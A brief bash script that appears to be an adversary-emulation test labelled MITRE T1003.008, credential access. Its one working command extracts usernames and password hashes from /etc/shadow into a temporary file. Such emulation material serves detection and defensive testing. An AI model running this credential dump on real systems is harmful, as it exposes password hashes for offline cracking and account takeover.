#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1003.008
# tactic: credential-access
# what: grep the hashes out of /etc/shadow
. "$AT_LIB"
grep -v ':[*!]' /etc/shadow | cut -d: -f1,2 >"$AT_TMP/hashes"
